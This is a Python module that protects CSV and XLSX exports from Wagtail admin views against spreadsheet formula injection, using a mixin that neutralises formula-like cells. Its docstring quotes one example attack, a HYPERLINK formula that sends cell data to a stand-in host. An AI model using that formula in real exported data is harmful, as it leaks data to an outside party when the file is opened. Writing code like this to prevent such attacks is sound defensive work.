"""
Spreadsheets the admin writes, with no cell that a spreadsheet would run.

Excel, LibreOffice and Google Sheets take a cell that starts with =, +, -, @,
a tab or a carriage return as a formula. Text that someone typed into a form
or a search box (an enquiry's name, a search query) ends up in the admin's
exports, and `=HYPERLINK("http://evil.example/?x="&A1,"Click")` would run
when an editor opens the file. OWASP's advice for CSV is to start such a cell
with a single quote, which spreadsheets show as text:
https://owasp.org/www-community/attacks/CSV_Injection

Wagtail's SpreadsheetExportMixin already writes XLSX formula cells as text,
but writes CSV cells as they are: SafeSpreadsheetExportMixin
closes that gap for every view built on it.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value):
    """
    `value` as a CSV cell that cannot run: text that starts like a formula
    gets a leading '. Anything else, numbers included (-5 stays a number, not
    the text "'-5"), is returned as it is.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeSpreadsheetExportMixin:
    """
    For a view built on Wagtail's SpreadsheetExportMixin (a model viewset's
    IndexView with `list_export`, a ReportView): every CSV cell, headings
    included, goes through neutralise_cell(), and every XLSX cell holding
    text is written as text, never as a formula. List it before the Wagtail
    view in the bases:

        class IndexView(SafeSpreadsheetExportMixin, generic.IndexView):
            ...
    """

    def get_heading(self, queryset, field):
        # The XLSX header row is written without Wagtail's formula check, so
        # a heading is neutralised in both formats.
        return neutralise_cell(super().get_heading(queryset, field))

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return neutralise_cell(value)
        return value

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        # In XLSX the type of the cell says whether it is a formula, so the
        # text is kept exactly; an apostrophe would show in the cell.
        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format):
            if isinstance(cell.value, str):
                cell.data_type = "s"
            yield cell
